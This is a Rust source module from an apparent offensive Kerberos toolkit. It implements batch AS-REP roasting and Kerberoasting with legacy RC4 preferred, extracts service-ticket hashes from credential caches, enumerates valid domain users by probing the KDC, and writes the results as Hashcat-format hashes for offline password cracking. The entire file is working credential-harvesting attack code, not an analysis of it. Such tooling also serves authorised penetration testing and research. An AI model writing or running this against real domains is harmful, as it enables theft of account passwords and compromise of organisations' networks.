//! Batch pipelines that harvest crackable material, one exchange per target.
//!
//! A failing target never stops the batch: its error is recorded and the rest
//! go on. At most `concurrency` exchanges are outstanding at a time and results
//! come out in input order.

mod hash;

pub use self::hash::{asrep_hash, tgs_hash, HashFormat};
use crate::{
    exchange::{KdcTarget, PreauthReply, TgtSession, TicketExchange},
    target::check_traversal,
    Context, CredentialCache, Enctype, Error, ExchangeError, Result, Spn, Ticket,
};
use futures::{stream, StreamExt};
use std::{fs::OpenOptions, io::Write, path::Path};
use tracing::{debug, info, warn};

const DEFAULT_CONCURRENCY: usize = 8;
const LINE_ENDING: &str = "\r\n";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RoastOptions {
    pub concurrency: usize,
    pub format: HashFormat,
}

impl Default for RoastOptions {
    fn default() -> Self {
        Self {
            concurrency: DEFAULT_CONCURRENCY,
            format: HashFormat::Hashcat,
        }
    }
}

impl RoastOptions {
    pub fn from_context(context: &Context) -> Self {
        Self {
            concurrency: context.roast_concurrency,
            ..Self::default()
        }
    }
}

/// Which etypes a TGS request offers.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum EtypePolicy {
    /// Legacy first: RC4, then AES128, then AES256.
    #[default]
    BestEffort,
    Pinned(Enctype),
}

impl EtypePolicy {
    /// `None` and `-1` both mean best effort.
    pub fn from_requested(etype: Option<i32>) -> Self {
        match etype {
            None | Some(-1) => Self::BestEffort,
            Some(etype) => Self::Pinned(Enctype(etype)),
        }
    }

    pub fn etypes(self) -> Vec<Enctype> {
        match self {
            Self::BestEffort => Enctype::ROAST_PREFERENCE.to_vec(),
            Self::Pinned(etype) => vec![etype],
        }
    }
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RoastOutcome {
    pub hashes: Vec<String>,
    pub failures: Vec<ExchangeError>,
    /// Targets that produced nothing without failing, such as accounts
    /// that require pre-authentication.
    pub skipped: Vec<String>,
}

impl RoastOutcome {
    /// Some targets failed.
    pub fn is_partial(&self) -> bool {
        !self.failures.is_empty()
    }

    fn collect(harvests: Vec<Harvest>) -> Self {
        let mut outcome = Self::default();
        for harvest in harvests {
            match harvest {
                Harvest::Hash(hash) => outcome.hashes.push(hash),
                Harvest::Skipped(target) => outcome.skipped.push(target),
                Harvest::Failed(err) => outcome.failures.push(err),
            }
        }
        outcome
    }
}

enum Harvest {
    Hash(String),
    Skipped(String),
    Failed(ExchangeError),
}

impl Harvest {
    fn from_hash(target: &str, hash: Result<String>) -> Self {
        match hash {
            Ok(hash) => Self::Hash(hash),
            Err(err) => Self::Failed(ExchangeError::new(target, err.to_string())),
        }
    }
}

/// AS-REP roasting: asks for a TGT of each user without pre-authentication.
pub async fn asreproast(
    exchange: &dyn TicketExchange,
    target: &KdcTarget,
    users: &[Spn],
    etype: Enctype,
    options: RoastOptions,
) -> RoastOutcome {
    let harvests = stream::iter(users)
        .map(|user| async move {
            let name = user.to_string();
            match exchange.get_tgt_without_preauth(target, user, etype).await {
                Ok(PreauthReply::NotRequired { realm, enc_part }) => {
                    info!(user = %name, "pre-authentication not required");
                    Harvest::from_hash(
                        &name,
                        asrep_hash(&user.username, &realm, &enc_part, options.format),
                    )
                }
                Ok(PreauthReply::Required) => {
                    debug!(user = %name, "pre-authentication required");
                    Harvest::Skipped(name)
                }
                Err(err) => failed(&name, err),
            }
        })
        .buffered(options.concurrency.max(1))
        .collect::<Vec<_>>()
        .await;
    RoastOutcome::collect(harvests)
}

/// Kerberoasting: asks for a service ticket of each SPN with an existing TGT.
pub async fn kerberoast(
    exchange: &dyn TicketExchange,
    session: &TgtSession,
    spns: &[Spn],
    policy: EtypePolicy,
    options: RoastOptions,
) -> RoastOutcome {
    let etypes = policy.etypes();
    let etypes = etypes.as_slice();
    let harvests = stream::iter(spns)
        .map(|spn| async move {
            let name = spn.to_string();
            match exchange.get_tgs(session, spn, etypes).await {
                Ok(reply) => Harvest::from_hash(
                    &name,
                    Ticket::decode_from(&reply.ticket).and_then(|ticket| {
                        tgs_hash(
                            &spn.username,
                            &ticket.server.realm(),
                            &spn.to_principal().name(),
                            &ticket.enc_part,
                            options.format,
                        )
                    }),
                ),
                Err(err) => failed(&name, err),
            }
        })
        .buffered(options.concurrency.max(1))
        .collect::<Vec<_>>()
        .await;
    RoastOutcome::collect(harvests)
}

/// Service ticket hashes straight from a cache; TGTs and configuration
/// entries are skipped.
pub fn roast_cache(cache: &CredentialCache, format: HashFormat) -> RoastOutcome {
    let harvests = cache
        .credentials
        .iter()
        .enumerate()
        .map(|(index, credential)| {
            let name = format!("#{} {}", index, credential.server);
            if credential.is_config() || credential.is_removed() || credential.server.is_tgs() {
                return Harvest::Skipped(name);
            }
            let username = String::from_utf8_lossy(
                credential
                    .client
                    .components
                    .first()
                    .map(Vec::as_slice)
                    .unwrap_or_default(),
            )
            .into_owned();
            Harvest::from_hash(
                &name,
                Ticket::decode_from(&credential.ticket).and_then(|ticket| {
                    tgs_hash(
                        &username,
                        &ticket.server.realm(),
                        &ticket.server.name(),
                        &ticket.enc_part,
                        format,
                    )
                }),
            )
        })
        .collect();
    RoastOutcome::collect(harvests)
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct UserEnumeration {
    pub found: Vec<Spn>,
    pub failures: Vec<ExchangeError>,
}

/// Asks the KDC about each user and keeps the ones it knows.
pub async fn enumerate_users(
    exchange: &dyn TicketExchange,
    target: &KdcTarget,
    users: &[Spn],
    options: RoastOptions,
) -> UserEnumeration {
    let answers = stream::iter(users)
        .map(|user| async move { (user, exchange.probe_user(target, user).await) })
        .buffered(options.concurrency.max(1))
        .collect::<Vec<_>>()
        .await;
    let mut enumeration = UserEnumeration::default();
    for (user, answer) in answers {
        match answer {
            Ok(true) => {
                info!(%user, "user exists");
                enumeration.found.push(user.clone());
            }
            Ok(false) => debug!(%user, "user does not exist"),
            Err(err) => {
                warn!(%user, reason = %err.reason, "probe failed");
                enumeration
                    .failures
                    .push(ExchangeError::new(user.to_string(), err.reason));
            }
        }
    }
    enumeration
}

fn failed(name: &str, err: ExchangeError) -> Harvest {
    warn!(source = name, reason = %err.reason, "exchange failed");
    Harvest::Failed(ExchangeError::new(name, err.reason))
}

/// Appends one hash per line. Paths with a parent traversal are refused.
pub fn write_hashes(path: impl AsRef<Path>, hashes: &[String]) -> Result<()> {
    let path = path.as_ref();
    check_traversal(&path.to_string_lossy())?;
    let mut file = OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .map_err(|err| Error::io(path, err))?;
    for hash in hashes {
        write!(file, "{}{}", hash, LINE_ENDING).map_err(|err| Error::io(path, err))?;
    }
    Ok(())
}
